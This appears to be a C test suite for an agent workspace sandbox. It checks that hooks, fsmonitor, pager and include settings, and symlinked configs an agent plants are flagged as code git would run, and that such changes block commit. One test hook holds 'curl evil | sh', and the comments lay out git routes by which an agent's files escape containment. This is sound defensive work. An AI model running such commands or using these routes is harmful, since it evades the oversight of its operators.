        put(lower, ".gitconfig", "[includeIf \"gitdir:/x/\"]\n\tpath = conf/more.cfg\n", 0644);
        mkd(lower, ".husky", 0755);
        mkd(lower, ".husky/_", 0755);
        mkd(lower, "conf", 0755);
        mkd(lower, "tools", 0755);
        put(lower, "tools/fsmon.sh", "#!/bin/sh\n", 0755);

        mkd(upper, ".husky", 0755);
        mkd(upper, ".husky/_", 0755);
        put(upper, ".husky/_/pre-commit", "evil\n", 0755);
        put(upper, ".gitconfig", "[core]\n\tfsmonitor = evil\n", 0644);
        mkd(upper, "conf", 0755);
        put(upper, "conf/more.cfg", "[core]\n\tpager = evil\n", 0644);
        cr_assert_eq(symlink("/tmp", at(upper, "tools")), 0);
        mkd(upper, "refs", 0755);
        mkd(upper, "refs/heads", 0755);
        put(upper, "refs/heads/main", "x\n", 0644);
        put(upper, "main.c", "int main;\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        static const char *const marked[] = { ".husky/_/pre-commit", ".gitconfig", "conf/more.cfg", "tools" };
        size_t seen = 0;
        for (size_t i = 0; i < n; i++) {
                bool want = false;
                for (size_t k = 0; k < ARRAY_SIZE(marked); k++)
                        want |= streq(c[i].path, marked[k]);
                seen += want;
                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
        }
        cr_expect_eq(seen, ARRAY_SIZE(marked));
        aj_ws_changes_free(c, n);

        AjError err = {};
        AjWsStats s;
        cr_expect_eq(aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err), -EPERM);
        aj_error_clear(&err);
        cr_expect_not(exists(lower, "main.c"), "nothing applied");
}

/* A linked worktree's (or a submodule's) .git is a file naming its gitdir, elsewhere; the
 * config is in the commondir it names: followed, read, and its hooksPath marks. */
Test(workspace, git_code_named_by_a_linked_worktrees_config)
{
        mkd(outside, "main.git", 0755);
        put(outside, "main.git/config", "[core]\n\thooksPath = githooks\n", 0644);
        mkd(outside, "main.git/worktrees", 0755);
        mkd(outside, "main.git/worktrees/w", 0755);
        put(outside, "main.git/worktrees/w/commondir", "../..\n", 0644);
        char line[256];
        snprintf(line, sizeof(line), "gitdir: %s/main.git/worktrees/w\n", outside);
        put(lower, ".git", line, 0644);
        mkd(upper, "githooks", 0755);
        put(upper, "githooks/post-checkout", "evil\n", 0755);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        for (size_t i = 0; i < n; i++)
                cr_expect_not_null(c[i].git_code, "%s is marked", c[i].path);
        cr_expect_eq(n, 2);
        aj_ws_changes_free(c, n);
}

/* A path the config names is followed through the workspace's symlinks as git follows
 * them: .husky a symlink to tools/husky, so the hook is tools/husky/_/pre-commit; an
 * absolute include spelled through a symlink to the workspace. */
Test(workspace, git_code_named_by_the_config_through_symlinks)
{
        char cfg[512];
        cr_assert_eq(symlink(lower, at(outside, "ws")), 0);
        snprintf(cfg, sizeof(cfg), "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = %s/ws/team.cfg\n", outside);
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", cfg, 0644);
        mkd(lower, "tools", 0755);
        mkd(lower, "tools/husky", 0755);
        mkd(lower, "tools/husky/_", 0755);
        cr_assert_eq(symlink("tools/husky", at(lower, ".husky")), 0);
        mkd(upper, "tools", 0755);
        mkd(upper, "tools/husky", 0755);
        mkd(upper, "tools/husky/_", 0755);
        put(upper, "tools/husky/_/pre-commit", "evil\n", 0755);
        put(upper, "team.cfg", "[core]\n\tpager = evil\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_expect_eq(n, 2);
        for (size_t i = 0; i < n; i++)
                cr_expect_not_null(c[i].git_code, "%s is marked", c[i].path);
        aj_ws_changes_free(c, n);
}

/* A hook that is a symlink into the work tree (`ln -s ../../scripts/pre-commit.sh
 * .git/hooks/pre-commit`): git 2.39 ran the agent's scripts/pre-commit.sh on commit. The
 * file it points to is marked, another script is not. */
Test(workspace, git_code_a_hook_linked_into_the_work_tree)
{
        mkd(lower, ".git", 0755);
        mkd(lower, ".git/hooks", 0755);
        cr_assert_eq(symlink("../../scripts/pre-commit.sh", at(lower, ".git/hooks/pre-commit")), 0);
        mkd(lower, "scripts", 0755);
        put(lower, "scripts/pre-commit.sh", "#!/bin/sh\n", 0755);
        mkd(upper, "scripts", 0755);
        put(upper, "scripts/pre-commit.sh", "#!/bin/sh\nevil\n", 0755);
        put(upper, "scripts/build.sh", "#!/bin/sh\n", 0755);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        cr_expect_str_eq(c[1].path, "scripts/pre-commit.sh");
        cr_expect_not_null(c[1].git_code);
        cr_expect_null(c[0].git_code, "scripts/build.sh");
        aj_ws_changes_free(c, n);
}

/* A nested repository's and a submodule's config (its .git a file naming
 * .git/modules/NAME) name paths in their own work trees: marked there; the same names
 * outside any repository are not. */
Test(workspace, git_code_named_by_a_nested_repositorys_config)
{
        mkd(lower, ".git", 0755);
        mkd(lower, ".git/modules", 0755);
        mkd(lower, ".git/modules/y", 0755);
        put(lower, ".git/modules/y/config", "[core]\n\thooksPath = hooks2\n", 0644);
        mkd(lower, "lib", 0755);
        mkd(lower, "lib/x", 0755);
        mkd(lower, "lib/x/.git", 0755);
        put(lower, "lib/x/.git/config", "[core]\n\thooksPath = .githooks\n", 0644);
        mkd(lower, "lib/y", 0755);
        put(lower, "lib/y/.git", "gitdir: ../../.git/modules/y\n", 0644);
        mkd(lower, "lib/z", 0755);
        mkd(upper, "lib", 0755);
        mkd(upper, "lib/x", 0755);
        mkd(upper, "lib/x/.githooks", 0755);
        put(upper, "lib/x/.githooks/pre-commit", "evil\n", 0755);
        mkd(upper, "lib/y", 0755);
        mkd(upper, "lib/y/hooks2", 0755);
        put(upper, "lib/y/hooks2/post-checkout", "evil\n", 0755);
        mkd(upper, "lib/z", 0755);
        mkd(upper, "lib/z/.githooks", 0755);
        put(upper, "lib/z/.githooks/pre-commit", "fine\n", 0755);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_expect_eq(n, 6);
        for (size_t i = 0; i < n; i++) {
                bool want = strncmp(c[i].path, "lib/z", 5) != 0;
                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
        }
        aj_ws_changes_free(c, n);
}

/* The repository's config is found by the workspace's path, the one its descriptor has
 * now: a workspace moved since it was opened is still read where it is. */
Test(workspace, git_code_config_of_a_moved_workspace)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n\thooksPath = .githooks\n", 0644);
        mkd(upper, ".githooks", 0755);
        put(upper, ".githooks/pre-commit", "evil\n", 0755);
        cr_assert_eq(rename(lower, at(root, "moved")), 0);
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        cr_expect_not_null(c[1].git_code, "%s", c[1].path);
        aj_ws_changes_free(c, n);
}

/* Should the workspace's path lead elsewhere (another mount over it), its config would
 * not be found and nothing marked: the diff fails instead. */
Test(workspace, git_code_needs_the_workspace_at_its_path)
{
        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        close(lower_fd);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n\thooksPath = .githooks\n", 0644);
        mkd(upper, ".githooks", 0755);
        put(upper, ".githooks/pre-commit", "evil\n", 0755);
        cr_assert_eq(mount(outside, lower, NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        AjWsChange *c = NULL;
        size_t n = 0;
        AjError err = {};
        int r = aj_ws_diff(upper_fd, lower_fd, 0, &c, &n, &err);
        umount2(lower, MNT_DETACH);
        cr_expect_eq(r, -ESTALE, "r = %d %s", r, aj_error_text(&err, r));
        if (r == 0)
                aj_ws_changes_free(c, n);
        aj_error_clear(&err);
}

/* The config itself a symlink into the work tree (.git/config -> ../gitconfig): git 2.39
 * read the agent's core.fsmonitor there on status. Marked. */
Test(workspace, git_code_config_linked_into_the_work_tree)
{
        mkd(lower, ".git", 0755);
        put(lower, "gitconfig", "[core]\n", 0644);
        cr_assert_eq(symlink("../gitconfig", at(lower, ".git/config")), 0);
        put(upper, "gitconfig", "[core]\n\tfsmonitor = evil\n", 0644);
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        cr_expect_not_null(c[0].git_code, "%s", c[0].path);
        aj_ws_changes_free(c, n);
}

/* rw: a hook in the directory the repository's config names (husky's core.hooksPath,
 * plain files of the work tree) changed during the run counts as one of git's own. */
Test(workspace, git_changed_in_place_config_targets)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        put(lower, ".git/config", "[core]\n\thooksPath = .husky/_\n", 0644);
        mkd(lower, ".git/objects", 0755);
        mkd(lower, ".git/refs", 0755);
        mkd(lower, ".husky", 0755);
        mkd(lower, ".husky/_", 0755);
        put(lower, ".husky/_/pre-commit", "npm test\n", 0755);
        put(lower, "src.c", "int x;\n", 0644);
        usleep(20000);
        uint64_t since = now_ns();
        usleep(20000);
        put(lower, "src.c", "int y;\n", 0644);
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_expect_null(found, "an ordinary file of the work tree is not git's");

        put(lower, ".husky/_/pre-commit", "curl evil | sh\n", 0755);
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        bool hook = false;
        size_t i;
        json_t *p;
        json_array_foreach (json_object_get(found, "paths"), i, p)
                hook = hook || streq(json_string_value(p), ".husky/_/pre-commit");
        cr_expect(hook, "the hook in core.hooksPath is named");
        json_decref(found);
}

static bool found_path(json_t *found, const char *path)
{
        size_t i;
        json_t *p;
        json_array_foreach (json_object_get(found, "paths"), i, p)
                if (streq(json_string_value(p), path))
                        return true;
        return false;
}

/* rw: the repositories below the workspace's top are looked at too, with the same rule: a
 * nested repository's hook and config (git run in sub/ runs them), a submodule's work tree
 * that its gitdir's config (in .git/modules) names, a repository made during the run deep
 * down, a directory holding a HEAD (a bare repository), an .hg (Mercurial's hgrc), a .jj
 * (Jujutsu's repository config). The
 * same names outside any repository are not git's. */
Test(workspace, git_changed_in_place_nested_repositories)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(lower, ".git/modules", 0755);
        mkd(lower, ".git/modules/y", 0755);
        put(lower, ".git/modules/y/config", "[core]\n\thooksPath = hooks2\n", 0644);
        mkd(lower, "sub", 0755);
        mkd(lower, "sub/.git", 0755);
        put(lower, "sub/.git/HEAD", "ref: refs/heads/main\n", 0644);
        put(lower, "sub/.git/config", "[core]\n", 0644);
        mkd(lower, "sub/.git/hooks", 0755);
        mkd(lower, "lib", 0755);
        mkd(lower, "lib/y", 0755);
        put(lower, "lib/y/.git", "gitdir: ../../.git/modules/y\n", 0644);
        mkd(lower, "lib/y/hooks2", 0755);
        mkd(lower, "srv", 0755);
        mkd(lower, "srv/repo.git", 0755);
        put(lower, "srv/repo.git/HEAD", "ref: refs/heads/main\n", 0644);
        put(lower, "srv/repo.git/config", "[core]\n\tbare = true\n", 0644);
        mkd(lower, "plain", 0755);
        mkd(lower, "plain/hooks2", 0755);
        usleep(20000);
        uint64_t since = now_ns();
        usleep(20000);
        put(lower, "sub/.git/hooks/post-checkout", "evil\n", 0755);
        put(lower, "sub/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
        put(lower, "sub/.git/HEAD", "ref: refs/heads/x\n", 0644);
        put(lower, "lib/y/hooks2/post-checkout", "evil\n", 0755);
        put(lower, "srv/repo.git/config", "[core]\n\tpager = evil\n", 0644);
        put(lower, "plain/hooks2/post-checkout", "fine\n", 0755);
        cr_assert_eq(mkdir(at(lower, "a"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/b"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/b/.git"), 0755), 0);
        put(lower, "a/b/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
        cr_assert_eq(mkdir(at(lower, "a/hg"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/hg/.hg"), 0755), 0);
        put(lower, "a/hg/.hg/hgrc", "[hooks]\nupdate = evil\n", 0644);
        cr_assert_eq(mkdir(at(lower, "a/jj"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/jj/.jj"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/jj/.jj/repo"), 0755), 0);
        cr_assert_eq(mkdir(at(lower, "a/jj/.jj/repo/store"), 0755), 0);
        put(lower, "a/jj/.jj/repo/config.toml", "[fix.tools.x]\ncommand = [\"evil\"]\n", 0644);
        put(lower, "a/jj/.jj/repo/store/type", "git\n", 0644);
        /* A symlink is not followed: out of the workspace, nor round it in circles. */
        mkd(outside, "o", 0755);
        mkd(outside, "o/.git", 0755);
        put(outside, "o/.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
        cr_assert_eq(symlink(at(outside, "o"), at(lower, "out")), 0);
        cr_assert_eq(symlink(".", at(lower, "loop")), 0);

        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        static const char *const want[] = {
                "sub/.git/hooks/post-checkout", "sub/.git/config", "lib/y/hooks2/post-checkout",
                "srv/repo.git/config",          "a/b/.git/config", "a/hg/.hg/hgrc",
                "a/jj/.jj/repo/config.toml"
        };
        for (size_t i = 0; i < ARRAY_SIZE(want); i++)
                cr_expect(found_path(found, want[i]), "%s is named", want[i]);
        cr_expect_not(found_path(found, "sub/.git/HEAD"), "a HEAD is data");
        cr_expect_not(found_path(found, "a/jj/.jj/repo/store/type"), "jj's store is data");
        cr_expect_not(found_path(found, "plain/hooks2/post-checkout"), "not in a repository's work tree");
        cr_expect_not(found_path(found, "out/.git/config"), "not through a symlink");
        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 10,
                     "and the directories sub/.git/hooks, lib/y/hooks2 and a/jj/.jj/repo (an entry added): %s",
                     json_dumps(found, JSON_COMPACT));
        cr_expect(json_is_false(json_object_get(found, "cut")));
        json_decref(found);
}

/* A .jj with its repo/store in `base`. */
static void mk_jj_store(const char *base)
{
        mkd(base, ".jj", 0755);
        mkd(base, ".jj/repo", 0755);
        mkd(base, ".jj/repo/store", 0755);
}

/* overlay: the same change in the upper dir is marked, commit wants a decision. */
Test(workspace, git_code_jj_git_target)
{
        mk_jj_store(lower);
        put(lower, ".jj/repo/store/git_target", "git\n", 0644);
        mk_jj_store(upper);
        put(upper, ".jj/repo/store/git_target", "/tmp/evil.git\n", 0644);
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        cr_assert_str_eq(c[0].path, ".jj/repo/store/git_target");
        cr_expect_not_null(c[0].git_code, "%s", c[0].path);
        aj_ws_changes_free(c, n);
}

/* rw: jj's git backend pointed elsewhere during the run (git_target, or its "git" swapped for
 * a symlink to a repository the agent made outside the workspace) is named at the end. */
Test(workspace, git_changed_in_place_jj_git_target)
{
        mk_jj_store(lower);
        put(lower, ".jj/repo/store/type", "git\n", 0644);
        put(lower, ".jj/repo/store/git_target", "git\n", 0644);
        usleep(20000);
        uint64_t since = now_ns();
        usleep(20000);
        put(lower, ".jj/repo/store/git_target", "/tmp/evil.git\n", 0644);
        cr_assert_eq(symlink("/tmp/evil.git", at(lower, ".jj/repo/store/git")), 0);
        put(lower, ".jj/repo/store/type", "git\n", 0644);
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect(found_path(found, ".jj/repo/store/git_target"), "%s", json_dumps(found, JSON_COMPACT));
        cr_expect(found_path(found, ".jj/repo/store/git"), "%s", json_dumps(found, JSON_COMPACT));
        cr_expect_not(found_path(found, ".jj/repo/store/type"), "the store's data");
        json_decref(found);
}

/* Whatever the agent creates, the look stays bounded and says where it stopped: more
 * repositories than it looks into, more entries than it walks, deeper than it goes. */
Test(workspace, git_changed_in_place_nested_bounded)
{
        char name[64];
        for (int i = 0; i <= AJ_WS_GIT_MAX_REPOS; i++) {
                snprintf(name, sizeof(name), "r%d", i);
                mkd(lower, name, 0755);
                snprintf(name, sizeof(name), "r%d/.git", i);
                mkd(lower, name, 0755);
        }
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect(json_is_true(json_object_get(found, "cut")));
        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "repositories");
        json_decref(found);

        char cmd[512];
        snprintf(cmd, sizeof(cmd), "rm -rf '%s'/r*", lower);
        cr_assert_eq(system(cmd), 0);
        /* The default bounds, smaller: AJ_WS_GIT_WALK_ENTRIES files take seconds to make. */
        AjWsGitLimits lim = { .walk_entries = 100, .walk_depth = 8 };
        /* Breadth first: a repository near the top is seen before a deep pile stops the walk,
         * whichever the directory lists first (one pile is enough to stop it, and there are
         * 30 of them beside the repository). */
        for (int k = 0; k < 30; k++) {
                snprintf(name, sizeof(name), "big%d", k);
                mkd(lower, name, 0755);
                snprintf(name, sizeof(name), "big%d/many", k);
                mkd(lower, name, 0755);
                for (int i = 0; i <= 100; i++) {
                        snprintf(name, sizeof(name), "big%d/many/%d", k, i);
                        put(lower, name, "", 0644);
                }
        }
        mkd(lower, "z", 0755);
        mkd(lower, "z/.git", 0755);
        put(lower, "z/.git/config", "[core]\n", 0644);
        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
        cr_assert_not_null(found);
        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_entries");
        cr_expect(found_path(found, "z/.git/config"));
        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 1);
        json_decref(found);

        snprintf(cmd, sizeof(cmd), "rm -rf '%s'/big* '%s'/z", lower, lower);
        cr_assert_eq(system(cmd), 0);
        char deep[PATH_MAX] = "";
        for (int i = 0; i < 9; i++) {
                strcat(deep, i ? "/d" : "d");
                mkd(lower, deep, 0755);
        }
        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
        cr_assert_not_null(found);
        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_depth");
        json_decref(found);

        /* Time: the deadline checked before each directory is listed, passed at once. */
        lim = (AjWsGitLimits){ .walk_ms = 1 };
        for (int i = 0; i < 2000; i++) {
                snprintf(name, sizeof(name), "w%d", i);
                mkd(lower, name, 0755);
        }
        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, &lim, &found), 0);
        cr_assert_not_null(found);
        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "workspace_time",
                         "2,000 directories listed in under 1 ms?");
        json_decref(found);
}

/* The operator's global config names paths in the workspace's repositories too: a
 * relative core.hooksPath (git 2.39 ran <top>/.githooks/pre-commit in each repository),
 * an include relative to ~, a command's script; from ~/.gitconfig, $XDG_CONFIG_HOME/git/
 * config and $GIT_CONFIG_GLOBAL alike. Marked in the overlay's diff. */
static void global_config(void)
{
        char home[128], xdg[128], global[128];
        snprintf(home, sizeof(home), "%s/home", outside);
        snprintf(xdg, sizeof(xdg), "%s/xdg", outside);
        snprintf(global, sizeof(global), "%s/global.cfg", outside);
        mkd(outside, "home", 0755);
        mkd(outside, "xdg", 0755);
        mkd(outside, "xdg/git", 0755);
        put(outside, "home/.gitconfig", "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../../lower/team.cfg\n",
            0644);
        put(outside, "xdg/git/config", "[core]\n\tfsmonitor = tools/fsmon.sh\n", 0644);
        put(outside, "global.cfg", "[includeIf \"gitdir:/\"]\n\tpath = ../lower/more.cfg\n", 0644);
        cr_assert_eq(setenv("HOME", home, 1), 0);
        cr_assert_eq(setenv("XDG_CONFIG_HOME", xdg, 1), 0);
        cr_assert_eq(setenv("GIT_CONFIG_GLOBAL", global, 1), 0);
        cr_assert_eq(unsetenv("SUDO_USER"), 0);
}

Test(workspace, git_code_named_by_the_global_config)
{
        global_config();
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n", 0644);
        mkd(lower, "sub", 0755);
        mkd(lower, "sub/.git", 0755);
        mkd(upper, ".githooks", 0755);
        put(upper, ".githooks/pre-commit", "evil\n", 0755);
        mkd(upper, "sub", 0755);
        mkd(upper, "sub/.githooks", 0755);
        put(upper, "sub/.githooks/pre-commit", "evil\n", 0755);
        put(upper, "team.cfg", "[core]\n\tpager = evil\n", 0644);
        put(upper, "more.cfg", "[core]\n\tpager = evil\n", 0644);
        mkd(upper, "tools", 0755);
        put(upper, "tools/fsmon.sh", "evil\n", 0755);
        put(upper, "tools/build.sh", "fine\n", 0755);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        static const char *const marked[] = { ".githooks",     ".githooks/pre-commit",
                                              "sub/.githooks", "sub/.githooks/pre-commit",
                                              "team.cfg",      "more.cfg",
                                              "tools",         "tools/fsmon.sh" };
        size_t seen = 0;
        for (size_t i = 0; i < n; i++) {
                bool want = false;
                for (size_t k = 0; k < ARRAY_SIZE(marked); k++)
                        want |= streq(c[i].path, marked[k]);
                seen += want;
                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
        }
        cr_expect_eq(seen, ARRAY_SIZE(marked));
        aj_ws_changes_free(c, n);
}

/* rw: the same global hooksPath makes a hook the agent adds there one of git's own files. */
Test(workspace, git_changed_in_place_global_config)
{
        global_config();
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n", 0644);
        mkd(lower, ".githooks", 0755);
        usleep(20000);
        uint64_t since = now_ns();
        usleep(20000);
        put(lower, ".githooks/pre-commit", "evil\n", 0755);
        /* Named twice (the global hooksPath, a command in the repository's config):
         * counted once. */
        put(lower, ".git/config", "[alias]\n\tpc = !.githooks/pre-commit\n", 0644);
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect(found_path(found, ".githooks/pre-commit"));
        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 3,
                     ".git/config, .githooks and its pre-commit once: %s", json_dumps(found, JSON_COMPACT));
        json_decref(found);
}

/* "~" in a config is the home of whoever runs git: the workspace may be in it. Under sudo
 * (SUDO_USER set) that is also the invoking user's home from the passwd database, which
 * git run by them without sudo reads ~/.gitconfig from. root's home is bound over by a
 * scratch directory in a mount namespace of the test's own, to play the invoking user's. */
Test(workspace, git_code_named_through_the_operators_homes)
{
        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        struct passwd *pw = getpwnam("root");
        cr_assert(pw && pw->pw_dir[0] == '/');
        mkd(outside, "sudoer", 0755);
        char cfg[512];
        snprintf(cfg, sizeof(cfg), "[core]\n\thooksPath = %s/sudo-hooks\n", lower);
        put(outside, "sudoer/.gitconfig", cfg, 0644);
        cr_assert_eq(mount(at(outside, "sudoer"), pw->pw_dir, NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        mkd(outside, "home", 0755);
        cr_assert_eq(setenv("HOME", at(outside, "home"), 1), 0);
        cr_assert_eq(unsetenv("XDG_CONFIG_HOME"), 0);
        cr_assert_eq(unsetenv("GIT_CONFIG_GLOBAL"), 0);
        cr_assert_eq(setenv("SUDO_USER", "root", 1), 0);
        /* The repository's include through "~": $HOME is the scratch home, in which the
         * workspace is reached by a symlink. */
        cr_assert_eq(symlink(lower, at(outside, "home/ws")), 0);
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[include]\n\tpath = ~/ws/shared.cfg\n", 0644);
        mkd(upper, "sudo-hooks", 0755);
        put(upper, "sudo-hooks/post-checkout", "evil\n", 0755);
        put(upper, "shared.cfg", "[core]\n\tfsmonitor = evil\n", 0644);
        put(upper, "work.txt", "fine\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        umount2(pw->pw_dir, MNT_DETACH);
        cr_assert_eq(n, 4);
        for (size_t i = 0; i < n; i++)
                cr_expect_eq(c[i].git_code != NULL, !streq(c[i].path, "work.txt"), "%s: git_code %s", c[i].path,
                             c[i].git_code ?: "none");
        aj_ws_changes_free(c, n);
}

/* The workspace a subdirectory of the operator's repository (a package of a monorepo):
 * git run in it finds the repository above, whose config names paths in the workspace
 * (husky installed at the top for packages/app: hooksPath = lower/.husky). Marked in the
 * overlay's diff, and named by the rw look. */
Test(workspace, git_code_named_by_the_enclosing_repositorys_config)
{
        mkd(root, ".git", 0755);
        put(root, ".git/config", "[core]\n\thooksPath = lower/.husky\n", 0644);
        mkd(lower, ".husky", 0755);
        mkd(upper, ".husky", 0755);
        put(upper, ".husky/pre-commit", "evil\n", 0755);
        put(upper, "work.txt", "fine\n", 0644);
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        cr_expect_not_null(c[0].git_code, "%s", c[0].path);
        cr_expect_null(c[1].git_code, "%s", c[1].path);
        aj_ws_changes_free(c, n);

        usleep(20000);
        uint64_t since = now_ns();
        usleep(20000);
        put(lower, ".husky/pre-commit", "evil\n", 0755);
        put(lower, "work.txt", "fine\n", 0644);
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect(found_path(found, ".husky/pre-commit"));
        cr_expect_not(found_path(found, "work.txt"));
        json_decref(found);
}

/* rw: a config the look cannot read (past 1 MiB) cuts it, and the event says which file. */
Test(workspace, git_changed_in_place_config_unreadable)
{
        mkd(lower, ".git", 0755);
        char *big = malloc((2u << 20) + 1);
        cr_assert_not_null(big);
        memset(big, '#', 2u << 20);
        big[2u << 20] = 0;
        put(lower, ".git/config", big, 0644);
        free(big);
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, now_ns() + 1000000000ull, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect_str_eq(json_string_value(json_object_get(found, "cut_at")), "config");
        const char *why = json_string_value(json_object_get(found, "config_error")) ?: "";
        cr_expect(strstr(why, "/.git/config' is larger than"), "%s", why);
        json_decref(found);
}
